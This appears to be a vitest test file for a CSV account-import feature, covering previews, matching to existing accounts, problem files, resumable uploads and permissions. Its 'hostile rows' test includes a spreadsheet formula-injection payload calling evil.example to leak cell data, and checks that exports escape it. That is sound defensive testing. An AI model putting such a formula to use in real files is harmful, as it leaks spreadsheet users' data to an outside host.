import { runImport } from '@parley/api/imports/run-import'
import { importLimits } from '@parley/contract/imports'
import { accounts } from '@parley/contract/routes/accounts'
import { audit } from '@parley/contract/routes/audit'
import { imports } from '@parley/contract/routes/imports'
import { describe, expect, it } from 'vitest'
import { hostileNames } from '../../../../test/support/hostile-names.ts'
import { Importer } from '../../../../test/support/imports.ts'
import { world } from '../../../../test/support/world.ts'

const w = await world()
const manager = new Importer(w)
const opens = (id: string) => w.as('manager').does(accounts.getAccount, { params: { id } })
const named = async (name: string) =>
  (await w.sql<{ id: string }>('SELECT id FROM parley.account WHERE name = $1', [name])).map(({ id }) => id)
/** Everything that an import may write about accounts. */
const allThatIsKnown = () =>
  w.sql(`SELECT a.id, a.name, a.host, a.country, a.city, a.tax_id, a.designation, a.parent_id, a.version,
    ARRAY(SELECT l.name FROM parley.account_alias l WHERE l.account_id = a.id ORDER BY 1) AS aliases,
    ARRAY(SELECT d.host FROM parley.account_domain d WHERE d.account_id = a.id ORDER BY 1) AS hosts FROM parley.account a ORDER BY a.id`)
const csv = (...rows: string[][]) =>
  rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join('\r\n')

describe('a file of accounts', () => {
  it('becomes accounts with all that it says of them, which a search then finds', async () => {
    const done = await manager.brings(
      csv(
        [
          'Firma',
          'Webseite',
          'Land',
          'Ort',
          'USt-IdNr.',
          'Einstufung',
          'Muttergesellschaft',
          'Weitere Namen',
          'Kundennr.',
        ],
        [
          'Kesselbau Brandt Süd GmbH',
          'sued.kesselbau-brandt.de',
          'Deutschland',
          'Ulm',
          '',
          '',
          'Kesselbau Brandt AG',
          '',
          '1002',
        ],
        [
          'Kesselbau Brandt AG',
          'kesselbau-brandt.de; kbrandt.com',
          'DE',
          'Kiel',
          'DE 811 907 980',
          'Hauskunde',
          '',
          'KBA | Brandt Boilers',
          '1001',
        ],
      ),
      { fileName: 'Kunden.csv' },
    )
    expect(done).toMatchObject({
      state: 'finished',
      progress: { rows: 2, done: 2, imported: 2, refused: 0, remarked: 0 },
    })
    const [id] = await named('Kesselbau Brandt AG')
    const account = await opens(id!)
    expect(account).toMatchObject({
      summary: { domain: 'kesselbau-brandt.de', country: 'DE', city: 'Kiel', designation: 'house' },
      taxId: 'DE 811 907 980',
      provenance: 'Import Kunden.csv',
    })
    expect(account.aliases.map(({ name }) => name).sort()).toEqual(['Brandt Boilers', 'KBA'])
    expect(account.aliases[0]).toMatchObject({
      kind: 'other',
      source: 'Import Kunden.csv',
      addedByName: 'Mina Castell',
    })
    expect(account.domains.map(({ host }) => host)).toEqual(['kbrandt.com'])
    // The parent stands below its child in the file.
    expect(account.family.map(({ name, depth }) => [name, depth])).toEqual([
      ['Kesselbau Brandt AG', 0],
      ['Kesselbau Brandt Süd GmbH', 1],
    ])
    const found = await w.as('sales').does(accounts.searchAccounts, { query: { q: 'brandt boil' } })
    expect(found.items.map((each) => each.id)).toEqual([id])
  })

  it('is shown before anything is written: as it is understood, with problems counted and what would happen', async () => {
    await w.has.account({ name: 'Orchard Lane Hospitals', domain: 'orchardlane.org' })
    const before = await allThatIsKnown()
    const { id, mapping, file } = await manager.uploads(
      'name;site;country\nOrchard Lane Hospitals;orchardlane.org;us\nZephyr Quantum Foundry;zephyrquantum.io;Atlantis\nTamarind & Vole Press;tamarindvole.co.uk;England\n',
    )
    expect(file).toMatchObject({ separator: 'semicolon', encoding: 'UTF-8', rows: 3 })
    expect(mapping).toEqual(['name', 'domain', 'country'])
    const preview = await manager.previews(id)
    expect(preview).toMatchObject({ valid: 2, refused: 1, problems: [{ kind: 'countryUnknown', rows: 1 }] })
    expect(preview.rows.map(({ number, would, account }) => [number, would, account?.name])).toEqual([
      [2, 'link', 'Orchard Lane Hospitals'],
      [3, 'refuse', undefined],
      [4, 'make', undefined],
    ])
    expect(preview.rows[2]!.understood).toMatchObject({ domains: ['tamarindvole.co.uk'], country: 'GB' })
    expect(await allThatIsKnown()).toEqual(before)
    // Whoever knows better changes what a column means.
    await manager.maps(id, ['name', 'domain', null])
    expect(await manager.previews(id)).toMatchObject({ valid: 3, refused: 0 })
  })

  it('fills what is empty in a known account, overwrites nothing, and keeps another spelling', async () => {
    const id = await w.has.account({ name: 'Lindqvist Marine Systems', domain: 'lindqvistmarine.se', country: 'SE' })
    const rows = ['name,domain,country,city,designation', 'Lindqvist Marin System AB,lindqvistmarine.se,FI,Malmö,named']
    const done = await manager.brings(rows.join('\n'), { fileName: 'nord.csv' })
    expect(done.progress).toMatchObject({ imported: 0, linked: 1, filled: 1 })
    const account = await opens(id)
    expect(account.summary).toMatchObject({
      name: 'Lindqvist Marine Systems',
      country: 'SE',
      city: 'Malmö',
      designation: 'named',
    })
    expect(account.aliases).toEqual([
      expect.objectContaining({ name: 'Lindqvist Marin System AB', kind: 'other', source: 'Import nord.csv' }),
    ])
  })

  it('brought again changes nothing and says so; its rows in another file change nothing either', async () => {
    const file =
      'Company,Website,Country\nPelican Bay Analytics,pelicanbay.io,US\nPelikan Bay Analytics Inc,pelicanbay.io,US\nGrove & Marsh LLP,,GB\nBad row,,Nowhere\n'
    const first = await manager.brings(file)
    expect(first.progress).toMatchObject({ done: 4, refused: 1 })
    const known = await allThatIsKnown()
    const announced = await manager.uploads(file, { fileName: 'the same.csv' })
    expect(announced).toMatchObject({ sameFile: { id: first.id, byName: 'Mina Castell' }, repeats: false })
    expect(await manager.starts(announced.id)).toMatchObject({
      state: 'finished',
      repeats: true,
      progress: { done: 0 },
    })
    const other = await manager.brings(`${file}\n`, { fileName: 'other bytes.csv' })
    expect(other).toMatchObject({
      sameFile: null,
      repeats: false,
      progress: { imported: 0, filled: 0, waiting: first.progress.waiting },
    })
    expect(await allThatIsKnown()).toEqual(known)
  })

  it('knows an account by its id of an earlier file, but asks when the name is quite another', async () => {
    await manager.brings('crm id,name,source\nK-1,Bramble Fork Dairy,CRM\nK-2,Copper Kettle Foods,CRM\n')
    const next = await manager.brings(
      'crm id,name,city,source\nK-1,BRAMBLE FORK DAIRY,Ames,CRM\nK-2,Starling Aerospace,Reno,CRM\n',
    )
    expect(next.progress).toMatchObject({ linked: 1, filled: 1, waiting: 1, imported: 0 })
    const [row] = await manager.rows(next.id, { status: 'waiting' })
    expect(row!.candidates[0]).toMatchObject({
      name: 'Copper Kettle Foods',
      reasons: expect.arrayContaining(['Has the id “K-2”']),
    })
  })
})

describe('a row of which nobody can be sure', () => {
  const unsure = async (name: string, file: string) => {
    const { id } = await manager.brings(file)
    const rows = await manager.rows(id, { status: 'waiting' })
    expect(
      rows.map(({ problems }) => problems[0]!.kind),
      name,
    ).toEqual(rows.map(() => 'whichAccount'))
    return { id, rows }
  }

  it('makes no account: a person says which it is, and it’s known from then on', async () => {
    await manager.brings('id,name,source\n7,Halcyon Ridge Brewing,ERP\n')
    const [known] = await named('Halcyon Ridge Brewing')
    const file = 'id,name,source\n7,Meridian Tool & Die,ERP\n'
    const { id, rows } = await unsure('another name', file)
    expect(await named('Meridian Tool & Die')).toEqual([])
    const settled = await manager.resolves(id, rows[0]!.number, known!)
    expect(settled).toMatchObject({
      status: 'linked',
      account: { id: known },
      problems: [],
      resolvedByName: 'Mina Castell',
    })
    expect((await opens(known!)).aliases.map(({ name }) => name)).toEqual(['Meridian Tool & Die'])
    const { items } = await w.as('operator').does(audit.events, { query: { kind: 'import' } })
    expect(items.find(({ action }) => action === 'import.rowSettled')).toMatchObject({
      ...{ who: 'Mina Castell', words: 'said which account a row of an import means' },
      details: [
        { title: 'Account', value: 'Halcyon Ridge Brewing' },
        { title: 'Row', value: String(rows[0]!.number) },
      ],
    })
    expect((await manager.brings(`${file}\n`)).progress).toMatchObject({ linked: 1, filled: 0, waiting: 0 })
  })

  it('becomes an account of its own when the person says so; rows that say the same go with it, and the two stay apart', async () => {
    await manager.brings('id,name,source\n8,Sable Point Optics,ERP\n')
    const [known] = await named('Sable Point Optics')
    const row = '8,Juniper Mill Textiles,ERP\n'
    const { id, rows } = await unsure('another name', `id,name,source\n${row}${row}`)
    expect(rows).toHaveLength(2)
    const made = await manager.resolves(id, 2, null)
    expect(made).toMatchObject({ status: 'imported', account: { name: 'Juniper Mill Textiles' } })
    expect((await manager.sees(id)).progress).toMatchObject({ imported: 1, repeated: 1, waiting: 0 })
    expect(
      await w.sql('SELECT 1 FROM parley.account_difference WHERE $1 IN (one, other) AND $2 IN (one, other)', [
        known,
        made.account!.id,
      ]),
    ).toHaveLength(1)
    // Said twice, it's said once; said otherwise, it's refused.
    expect(await manager.resolves(id, 2, null)).toMatchObject({ account: made.account })
    await expect(manager.resolves(id, 2, known!)).rejects.toThrow(/409/)
  })
})

describe('the file of problems', () => {
  it('has the rows that weren’t imported, in the original columns; corrected, it is imported', async () => {
    const original = csv(
      ['No', 'Company name', 'Country', 'Note'],
      ['1', 'Tidewater Ceramics', 'US', ''],
      ['2', 'Umber & Oak "Studio"', 'Untied States', '=1+1'],
      ['3', '', 'US', 'a\nb'],
    )
    const first = await manager.brings(original, { fileName: 'März "Liste".csv' })
    expect(first.progress).toMatchObject({ imported: 1, refused: 2 })
    const { headers, text } = await manager.downloads(`/staff/imports/${first.id}/problems`)
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    expect(headers.get('content-disposition')).toBe(
      `attachment; filename="M_rz Liste problems.csv"; filename*=UTF-8''M%C3%A4rz%20Liste%20problems.csv`,
    )
    expect(text.split('\r\n')[0]).toMatch(/No,Company name,Country,Note,problem$/)
    expect(text).toContain(
      `2,"Umber & Oak ""Studio""",Untied States,"'=1+1","Country: “Untied States” isn’t known here.`,
    )
    const mended = text.replace('Untied States', 'United States').replace('3,,US', '3,Violet Harbor Tours,US')
    const second = await manager.brings(mended, { fileName: 'mended.csv' })
    expect(second.mapping).toEqual([null, 'name', 'country', null, null])
    expect(second.progress).toMatchObject({ imported: 2, refused: 0 })
    expect(await named('Umber & Oak "Studio"')).toHaveLength(1)
  })

  it('names parents that aren’t there; the accounts are there all the same, and get them later', async () => {
    const first = await manager.brings('name,parent\nXylo Forge East,Xylo Forge Group Holdings\n')
    expect(first.progress).toMatchObject({ imported: 1, remarked: 1 })
    const problems = await manager.problemFile(first.id)
    expect(problems).toContain('parent: There is no account “Xylo Forge Group Holdings”')
    const second = await manager.brings(`${problems}Xylo Forge Group Holdings,,\r\n`)
    expect(second.progress).toMatchObject({ remarked: 0 })
    const [id] = await named('Xylo Forge East')
    expect((await opens(id!)).family.map(({ name }) => name)).toEqual(['Xylo Forge Group Holdings', 'Xylo Forge East'])
  })
})

describe('hostile rows', () => {
  it('are stored as they are, or refused with the column; never a mistake of ours, and harmless when they leave', async () => {
    const rows = hostileNames.map(({ name }, at) => [name.replaceAll(/[\r\n]+/g, ' '), `H-${at}`])
    const done = await manager.brings(csv(['name', 'id'], ...rows))
    expect(done).toMatchObject({ state: 'finished', progress: { done: done.progress.rows } })
    const refused = new Set((await manager.rows(done.id, { status: 'refused' })).map(({ number }) => number))
    for (const [at, { what, name, stored }] of hostileNames.entries()) {
      expect(refused.has(at + 2), what).toBe(!stored)
      if (stored && (await named(name.replaceAll(/\s+/g, ' ').trim())).length === 0) {
        const [row] = await w.sql<{ name: string }>(
          `SELECT l.name FROM parley.account_alias l JOIN parley.account_external_id x USING (account_id) WHERE x.external_id = $1
           UNION SELECT name FROM parley.account WHERE id IN (SELECT account_id FROM parley.account_import_row WHERE number = $2 AND import_id = $3)`,
          [`H-${at}`, at + 2, done.id],
        )
        const waits = (await manager.rows(done.id, { status: 'waiting' })).some(({ number }) => number === at + 2)
        expect(row !== undefined || waits, what).toBe(true)
      }
    }
    const exported = await manager.exports()
    expect(exported.split('\r\n').filter((line) => /^"?[=+@-]/.test(line))).toEqual([])
    expect(exported).toContain(`"'=HYPERLINK(""http://evil.example?x=""&A1,""Acme"")"`)
    expect(await manager.problemFile(done.id)).not.toContain('\0')
  })
})

describe('an upload', () => {
  const file = `name,note\n${'Aster Vale Cannery,x\n'.repeat(60_000)}`

  it('survives a reload: it goes on with the part that is missing, and a part sent twice does no harm', async () => {
    const { id } = await manager.announces(file)
    expect((await manager.sends(id, file, 0)).upload).toMatchObject({
      nextPosition: 1,
      receivedBytes: importLimits.partBytes,
    })
    expect((await manager.sends(id, file, 0)).upload.nextPosition).toBe(1)
    await expect(manager.sends(id, `${file} `.repeat(3), 2)).rejects.toThrow(/409.*Send part 1 first/s)
    expect((await manager.sees(id)).upload.nextPosition).toBe(1)
    expect(await manager.sends(id, file, 1)).toMatchObject({ state: 'mapping', file: { rows: 60_000 } })
    await manager.stops(id)
  })

  it('of something else than was announced can’t be read, and says so', async () => {
    const { id } = await manager.announces('name\nAcme\n')
    expect(await manager.sends(id, 'name\nEvil\n', 0)).toMatchObject({
      state: 'unreadable',
      trouble: { mend: 'Upload it again.' },
    })
  })

  it.each([
    ['only a header', 'name,city\n', /no rows/],
    ['blank lines', '\n\n', /no header/],
    ['more than 100,000 rows', `name\n${'Acme\n'.repeat(100_001)}`, /more than 100,000 rows/],
    ['a quotation mark that doesn’t close', 'name\n"Acme\nBolt\n', /Row 2 /],
  ])('with %s is refused with what to do', async (_what, text, detail) => {
    const { state, trouble } = await manager.uploads(text)
    expect({ state, detail: trouble?.detail }).toEqual({ state: 'unreadable', detail: expect.stringMatching(detail) })
    expect(trouble!.mend).toMatch(/\.$/)
  })

  it('of more than 40 MB is refused before it’s sent', async () => {
    const body = { fileName: 'a.csv', bytes: importLimits.bytes + 1, sha256: '0'.repeat(64) }
    const answer = await w.as('operator').sends(imports.start, { body })
    expect(answer).toMatchObject({
      status: 422,
      json: { errors: [{ pointer: '/bytes', detail: expect.stringMatching(/40 MB/) }] },
    })
  })

  it('is for channel managers and operators', async () => {
    expect((await new Importer(w, 'operator').announces('name\nAcme\n')).state).toBe('uploading')
    await expect(new Importer(w, 'sales').announces('name\nAcme\n')).rejects.toThrow(
      /403.*Only a channel manager or an operator can/s,
    )
    expect((await w.as('finance').fetches('/api/v1/staff/accounts-export')).status).toBe(403)
    expect((await w.as('alder').fetches('/api/v1/staff/accounts-export')).status).toBe(403)
  })
})

describe('columns', () => {
  it('without a name, or with one meaning twice, are refused with what to choose', async () => {
    const { id } = await manager.uploads('a,b\nAcme,Bolt\n')
    const maps = async (...columns: (typeof imports.map.body._output)['columns']) =>
      w
        .as('manager')
        .sends(imports.map, { params: { id }, body: { columns }, ifMatch: (await manager.sees(id)).version })
    expect(await maps('city', null)).toMatchObject({ status: 422, json: { errors: [{ pointer: '/columns' }] } })
    expect(await maps('name', 'name')).toMatchObject({ status: 422, json: { errors: [{ pointer: '/columns/1' }] } })
    expect(await maps('name')).toMatchObject({ status: 422 })
    expect((await maps('name', 'aliases')).status).toBe(200)
    await manager.starts(id)
    expect((await maps('name', null)).status).toBe(409)
    await runImport(w.env, id)
  })

  it('of two people who say what they mean, the second hears of the first, and nothing is overwritten', async () => {
    const { id, version } = await manager.uploads('a,b\nAcme,Bolt\n')
    const says = (who: 'manager' | 'operator', columns: ('name' | 'aliases' | 'city')[]) =>
      w.as(who).does(imports.map, { params: { id }, body: { columns }, ifMatch: version })
    expect(await says('operator', ['name', 'aliases'])).toMatchObject({ version: version + 1 })
    await expect(says('manager', ['name', 'city'])).toBeRefused('stale', /meanwhile/)
    expect((await manager.sees(id)).mapping).toEqual(['name', 'aliases'])
  })
})
